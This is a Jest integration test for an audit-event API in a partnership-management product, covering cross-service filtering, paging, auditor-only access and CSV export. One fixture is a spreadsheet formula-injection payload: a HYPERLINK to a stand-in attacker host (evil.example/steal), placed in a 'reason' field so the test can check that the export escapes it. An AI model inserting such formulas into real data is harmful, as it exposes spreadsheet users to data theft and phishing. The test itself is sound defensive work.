import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { addDays, officeDate } from '@pmt/kernel';
import { startProduct, type ApiResponse, type Product } from '../support/product';

type Item = {
  service: string;
  resourceType: string;
  resourceId: string;
  version: number;
  type: string;
  actor: string;
  recordedAt: string;
  reason: string | null;
};

/**
 * "What did this person change last quarter", through the running product: two officers change MOUs and proposals,
 * an auditor asks across every service, pages through it, and exports it to a spreadsheet.
 */
describe('the audit query across services, through the running product', () => {
  let product: Product;
  const ANN = 'ann@step.example';
  const BOB = 'bob@step.example';
  const FORMULA = '=HYPERLINK("http://evil.example/steal","open the annex")';
  let mouId: string;
  let mouVersion: number;
  let proposalId: string;
  let proposalVersion: number;
  let windowFrom: string;
  let windowTo: string;

  const as = (sub: string, roles = ['staff']) => ({ authorization: `Bearer ${product.token(roles, sub)}` });
  const write = async (sub: string, method: string, path: string, body: unknown): Promise<ApiResponse> => {
    const r = await product.api(method, `/api/v1${path}`, { body, headers: as(sub) });
    expect([200, 201]).toContain(r.status);
    return r;
  };
  const audit = (query: string, roles = ['auditor']) => product.api('GET', `/api/v1/audit/events${query}`, { headers: as('auditor@step.example', roles) });
  const tick = () => new Promise((r) => setTimeout(r, 20));

  async function all(query: string): Promise<Item[]> {
    const r = await audit(`${query}${query ? '&' : '?'}limit=500`);
    expect(r.status).toBe(200);
    expect(r.body.nextCursor).toBeNull();
    return r.body.items;
  }

  beforeAll(async () => {
    product = await startProduct();
    const organisation = async (sub: string, name: string) =>
      (await write(sub, 'POST', '/organisations', { name, kind: 'government', country: 'TH', sectors: [], contacts: [] })).body.id as string;
    const nia = await organisation(ANN, 'สำนักงานนวัตกรรมแห่งชาติ');
    const undp = await organisation(BOB, 'UNDP Thailand');
    await tick();
    windowFrom = new Date().toISOString();
    await tick();
    const today = officeDate(new Date());
    const mou = await write(ANN, 'POST', '/mous', {
      title: 'NIA–UNDP MOU on innovation',
      parties: [
        { organisationId: nia, signatoryName: 'Executive Director', signatoryTitle: 'ผู้อำนวยการ' },
        { organisationId: undp, signatoryName: 'Resident Representative', signatoryTitle: 'Resident Representative' },
      ],
      cooperationAreas: ['innovation'],
      collaborationLevel: 'strategic',
      effectiveFrom: today,
      termMonths: 24,
      kpis: [],
    });
    mouId = mou.body.id;
    await write(BOB, 'POST', `/mous/${mouId}/terms`, { termMonths: 36, reason: FORMULA });
    mouVersion = (await write(ANN, 'POST', `/mous/${mouId}/signature-request`, { reason: 'ready for signing' })).body.version;
    const proposal = await write(BOB, 'POST', '/proposals', {
      title: 'ระบบความปลอดภัยอาหาร',
      leadTeam: 'IASA',
      funderId: nia,
      partnerIds: [undp],
      requestedAmount: { amount: 250_000_000, currency: 'THB' },
      submissionDeadline: addDays(today, 30),
      programme: 'Social innovation 2025',
    });
    proposalId = proposal.body.id;
    proposalVersion = (await write(ANN, 'POST', `/proposals/${proposalId}/submission`, {})).body.version;
    await tick();
    windowTo = new Date().toISOString();
    await tick();
    await write(BOB, 'POST', `/organisations/${nia}/rename`, { name: 'สำนักงานนวัตกรรมแห่งชาติ (NIA)' });
  }, 120_000);

  afterAll(async () => {
    await product?.stop();
  });

  it('lists every event once, newest first, each under the service that owns it (not the mirrors other services keep)', async () => {
    const items = await all('');
    const recorded = items.map((i) => i.recordedAt);
    expect([...recorded].sort().reverse()).toEqual(recorded);
    const keys = items.map((i) => `${i.resourceType}-${i.resourceId}@${i.version}`);
    expect(new Set(keys).size).toBe(keys.length);
    // partners and events keep copies of the MOU's events (inbox-mou-<id>, eventsworkflows-mou-<id>): never listed
    expect(items.filter((i) => i.resourceId.includes(mouId)).map((i) => i.service)).toEqual(Array(mouVersion).fill('mous'));
    expect(items.every((i) => ['organisation', 'proposal', 'mou', 'grant', 'activity', 'notification'].includes(i.resourceType))).toBe(true);
    const mou = items.filter((i) => i.resourceId === mouId);
    expect(mou.map((i) => [i.service, i.resourceType, i.version])).toEqual(Array.from({ length: mouVersion }, (_, k) => ['mous', 'mou', mouVersion - k]));
    expect(items.filter((i) => i.resourceId === proposalId).map((i) => i.service)).toEqual(Array(proposalVersion).fill('proposals'));
  });

  it('answers what one person changed in a period in one request', async () => {
    const ann = await all(`?actor=${encodeURIComponent(ANN)}&from=${windowFrom}&to=${windowTo}`);
    expect(ann.map((i) => [i.resourceType, i.version])).toEqual([
      ['proposal', proposalVersion],
      ['mou', mouVersion],
      ['mou', 1],
    ]);
    expect(ann.every((i) => i.actor === ANN)).toBe(true);
    expect(ann[1].reason).toBe('ready for signing');
    const bob = await all(`?actor=${encodeURIComponent(BOB)}`);
    expect(bob.map((i) => i.resourceType)).toEqual(['organisation', 'proposal', 'mou', 'organisation']);
  });

  it('filters by type, resource type and resource id', async () => {
    const mouDrafted = (await all(`?resourceId=${mouId}`)).at(-1) as Item;
    const proposalDrafted = (await all(`?resourceId=${proposalId.toUpperCase()}`)).at(-1) as Item;
    const byType = await all(`?type=${mouDrafted.type},${proposalDrafted.type}`);
    expect(byType.map((i) => i.resourceId)).toEqual([proposalId, mouId]);
    expect((await all('?resourceType=mou')).map((i) => i.version)).toEqual(Array.from({ length: mouVersion }, (_, k) => mouVersion - k));
    expect(await all(`?resourceType=proposal&resourceId=${mouId}`)).toEqual([]);
  });

  it('pages with limit=2 through every event exactly once, newest first', async () => {
    const reference = await all('');
    const paged: Item[] = [];
    let cursor: string | null = null;
    do {
      const r = await audit(`?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      expect(r.status).toBe(200);
      expect(r.body.items.length).toBeLessThanOrEqual(2);
      paged.push(...r.body.items);
      cursor = r.body.nextCursor;
    } while (cursor);
    expect(paged).toEqual(reference);
  });

  it('exports a CSV an auditor can open safely: BOM, attachment, the formula in a reason escaped', async () => {
    const res = await fetch(`${product.base}/api/v1/audit/events?format=csv&resourceId=${mouId}`, { headers: as('auditor@step.example', ['auditor']) });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename=".*\.csv"$/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    const lines = text.trimEnd().split('\n');
    expect(lines[0]).toBe('service,resourceType,resourceId,version,type,actor,occurredAt,recordedAt,reason,correlationId');
    expect(lines).toHaveLength(mouVersion + 1);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""open the annex"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('is for auditors and admins: viewer and staff 403, no token 401', async () => {
    expect((await audit('', ['viewer'])).status).toBe(403);
    expect((await audit('', ['staff'])).status).toBe(403);
    expect((await audit('', ['admin'])).status).toBe(200);
    expect((await product.api('GET', '/api/v1/audit/events', { headers: { authorization: '' } })).status).toBe(401);
  });

  it('answers 503 while a service is down instead of leaving its events out', async () => {
    await product.stack.kill('funding', 'SIGKILL', false);
    const r = await audit('');
    expect(r.status).toBe(503);
    expect(r.body.detail).toMatch(/funding/);
    expect((await audit('?resourceType=mou')).status).toBe(200);
  });
});
